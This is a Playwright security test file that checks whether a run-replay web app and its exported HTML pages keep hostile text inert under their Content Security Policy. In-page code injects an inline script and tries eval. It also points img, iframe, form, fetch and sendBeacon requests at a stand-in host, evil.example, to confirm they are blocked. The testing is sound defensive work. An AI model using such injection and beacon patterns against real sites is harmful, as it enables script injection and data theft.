import { readFile, writeFile } from "node:fs/promises";
import { pathToFileURL } from "node:url";
import type { BrowserContext, Page } from "@playwright/test";
import { fromJsonl, toJsonl } from "../server/protocol/index.ts";
import { chromiumResolves, startAttacker, type Attacker } from "./support/attacker.ts";
import { browserArguments, browserPath } from "./support/browser.ts";
import { poison, poisonedJournal } from "./support/poison.ts";
import { exportedRun } from "./support/server.ts";
import { expect, test } from "./support/test.ts";
import { recordings } from "./views/recordings.ts";

test.use({
  launchOptions: { executablePath: browserPath(), args: [...browserArguments, chromiumResolves] },
});

let attacker: Attacker;
test.beforeAll(async () => void (attacker = await startAttacker()));
test.afterAll(() => attacker.close());

test("should a hostile text become part of the page after all, nothing of it runs or gets out", async ({
  browser,
  server,
}) => {
  const context = await browser.newContext();
  const page = await listening(context);
  await page.goto(server.link);
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  const seen = attacker.asked.length;
  const broken = await page.evaluate(
    async ([text, elsewhere]) => {
      const violated = new Set<string>();
      document.addEventListener("securitypolicyviolation", (event) => violated.add(event.effectiveDirective));
      const until = async (...directives: string[]) => {
        while (directives.some((name) => !violated.has(name))) await new Promise((go) => setTimeout(go, 20));
      };
      const place = document.createElement("div");
      document.body.append(place);
      place.innerHTML = text ?? "";
      const script = document.createElement("script");
      script.textContent = "hacked('inline script')";
      place.append(script);
      await until("script-src-attr", "script-src-elem");
      place.innerHTML = `
        <img src="${elsewhere}/image"><link rel="stylesheet" href="${elsewhere}/style"><iframe src="${elsewhere}/frame">
        </iframe><object data="${elsewhere}/object"></object><video src="${elsewhere}/video"></video>
        <base href="${elsewhere}/"><form action="${elsewhere}/form"></form>`;
      place.querySelector("form")?.submit();
      void fetch(`${elsewhere}/fetch`).catch(() => undefined);
      navigator.sendBeacon(`${elsewhere}/beacon`);
      await until(
        "img-src",
        "style-src-elem",
        "frame-src",
        "object-src",
        "media-src",
        "base-uri",
        "form-action",
      );
      await until("connect-src");
      // A string is no program here.
      return ["Function", "eval"].map((name) => {
        try {
          (Reflect.get(globalThis, name) as (text: string) => unknown)("hacked('evaluated')");
          return "ran";
        } catch {
          return "refused";
        }
      });
    },
    [poison, `http://evil.example:${attacker.port}`],
  );
  expect(broken).toEqual(["refused", "refused"]);
  expect((await hackedBy(page)).filter((how) => !how.startsWith("policy:"))).toEqual([]);
  expect(attacker.asked.slice(seen)).toEqual([]);
  await context.close();
});

/** A page in which a hostile text can say that it has run. */
async function listening(context: BrowserContext): Promise<Page> {
  await context.addInitScript(() => {
    const by: string[] = [];
    Object.assign(globalThis, { hackedBy: by, hacked: (how: string) => by.push(how) });
    document.addEventListener("securitypolicyviolation", (event) =>
      by.push(`policy: ${event.effectiveDirective}`),
    );
  });
  return context.newPage();
}

/** What ran, and what only the policy kept from running. */
const hackedBy = (page: Page): Promise<string[]> =>
  page.evaluate(() => (globalThis as unknown as { hackedBy: string[] }).hackedBy);

async function drop(page: Page, name: string, text: string): Promise<void> {
  const data = await page.evaluateHandle(
    ([file = "", content = ""]) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([content], file, { type: "application/jsonl" }));
      return transfer;
    },
    [name, text],
  );
  await page.dispatchEvent("body", "drop", { dataTransfer: data });
}

/** Looks into every tab of a run, at a lost request where there is one, and at the hostile text in the log. */
async function lookAround(page: Page): Promise<void> {
  await expect(page.getByTestId("verdict")).toBeVisible();
  const losses = page.getByRole("listbox", { name: "Lost requests" });
  if (await losses.getByRole("option").count()) await losses.press("Home");
  const tabs = page.getByRole("tablist").first().getByRole("tab");
  for (let nth = 0; nth < (await tabs.count()); nth += 1) {
    await tabs.nth(nth).click();
    await expect(tabs.nth(nth)).toHaveAttribute("aria-selected", "true");
  }
  await tabs.filter({ hasText: "Logs" }).click();
  await expect(page.getByText("hacked('script')").first()).toBeVisible();
}

const { race } = recordings;

test("a journal full of hostile text is shown as text, on the page and in the page that is saved of it", async ({
  browser,
  server,
}, testInfo) => {
  test.slow();
  const context = await browser.newContext();
  const page = await listening(context);
  await page.goto(server.link);
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();

  await test.step("a file whose name is hostile, too, and that can't be read", async () => {
    // What takes files is there a little later than the list of lessons.
    await expect(async () => {
      await drop(page, `${poison}.jsonl`, poison);
      await expect(page.getByRole("alert")).toContainText("<img src=x", { timeout: 1000 });
    }).toPass({ timeout: 30_000 });
  });

  for (const [what, spare] of [
    ["of no lesson that is here", ["startedAt"]],
    ["of a lesson that is", ["lesson", "variant", "startedAt"]],
  ] as const) {
    await test.step(`a run ${what}`, async () => {
      await page.goto(server.link);
      await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
      const text = toJsonl(poisonedJournal(race, spare));
      await expect(async () => {
        await drop(page, "hostile.jsonl", text);
        await expect(page.getByTestId("verdict")).toBeVisible({ timeout: 3000 });
      }).toPass({ timeout: 30_000 });
      await lookAround(page);
      expect(await hackedBy(page)).toEqual([]);
    });
  }

  await test.step("the page that is saved of it, opened from a file", async () => {
    await page.getByRole("button", { name: "Share", exact: true }).click();
    const [file] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "A page that replays it" }).click(),
    ]);
    const path = testInfo.outputPath("run.html");
    await file.saveAs(path);
    const saved = await listening(context);
    await saved.goto(pathToFileURL(path).href);
    await lookAround(saved);
    expect(await hackedBy(saved)).toEqual([]);
  });

  await test.step("somebody else's page in its place: the policy in the file still holds", async () => {
    const template = await readFile(testInfo.outputPath("run.html"), "utf8");
    const path = testInfo.outputPath("injected.html");
    await writeFile(path, template.replace("</head>", `${poison}</head>`));
    const saved = await listening(context);
    await saved.goto(pathToFileURL(path).href);
    await expect.poll(() => hackedBy(saved)).toContain("policy: script-src-elem");
    expect((await hackedBy(saved)).filter((how) => !how.startsWith("policy:"))).toEqual([]);
  });
  await context.close();
});

test("a pod that writes and answers hostile text is shown as text", async ({ browser, server }) => {
  test.slow();
  const { caller } = server;
  const session = await caller.openSession();
  const line = await caller.connect(session);
  const program = `
    import { createServer } from "node:http";
    const text = ${JSON.stringify(poison)};
    console.log(text);
    console.error(text);
    const server = createServer((_request, response) => {
      response.writeHead(200, { "content-type": "text/html", "x-hostile": text.replace(/[^ -~]/g, "") });
      response.end("<!doctype html>" + text);
    });
    server.listen(Number(process.env["PORT"]));
    process.on("SIGTERM", () => server.close(() => process.exit(0)));
  `;
  const run = { lesson: "05-endpoint-race", variant: "fixed", mode: "live", settings: {}, program } as const;
  expect(await line.command({ type: "run.start", ...run })).toBeUndefined();
  await line.event("request.settled");
  const byHand = { to: "service", method: "GET", path: "/", headers: [] } as const;
  expect(await line.command({ type: "request.send", ...byHand, headers: [] })).toBeUndefined();
  await line.event("reply.received");
  expect(await line.command({ type: "run.stop" })).toBeUndefined();
  await line.event("run.finished");
  line.socket.close();
  expect((await exportedRun(server, session)).finished?.how).toBe("stopped");

  const answer = await caller.fetch("/api/runs");
  const [kept] = ((await answer.json()) as { runs: { run: string }[] }).runs;
  const journal = await caller.fetch(`/api/runs/${kept?.run}/journal.jsonl`);
  expect(journal.headers.get("content-type")).toContain("application/jsonl");
  expect(journal.headers.get("content-disposition")).toMatch(/^attachment/);
  expect(fromJsonl(await journal.text()).events.some((event) => event.type === "reply.received")).toBe(true);

  const context = await browser.newContext();
  const page = await listening(context);
  await page.goto(server.link);
  await page.goto(`${server.origin}/runs/${kept?.run}`);
  await lookAround(page);
  expect(await hackedBy(page)).toEqual([]);
  await context.close();
});
